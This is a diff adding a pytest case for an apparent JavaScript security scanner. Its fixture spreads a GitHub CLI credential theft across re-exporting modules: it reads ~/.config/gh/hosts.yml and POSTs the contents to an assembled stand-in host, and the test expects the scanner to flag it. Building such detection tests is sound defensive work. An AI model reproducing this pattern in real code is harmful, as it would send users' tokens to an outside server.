@@ -57,3 +57,16 @@ def test_modules_exporting_a_public_registry_and_reading_the_project_stay_quiet(
         "lookup(pkg.name).then((meta) => console.log(meta['dist-tags']));\n",
     }
     assert scan_errors(tmp_path, files) == set()
+
+
+def test_names_passed_on_by_an_index_module_that_re_exports_them(tmp_path: Path) -> None:
+    files = {
+        "app/index.mjs": "export { HOST as SINK } from './net/host.mjs';\nexport * from './net/files.mjs';\n",
+        "app/net/host.mjs": "export const HOST = ['collector', 'quiet-relay', 'example', 'net'].join('.');\n",
+        "app/net/files.mjs": "import os from 'node:os';\n"
+        "export const FILES = [os.homedir() + '/.config/gh/hosts.yml'];\n",
+        "app/main.mjs": "import { readFileSync } from 'node:fs';\nimport { SINK, FILES } from './index.mjs';\n"
+        "const body = FILES.map((f) => readFileSync(f, 'utf8')).join('\\n');\n"
+        "await fetch(`https://${SINK}/gh`, { method: 'POST', body });\n",
+    }
+    assert ("CREDENTIAL_EXFILTRATION", "app/main.mjs", 4) in scan_errors(tmp_path, files)
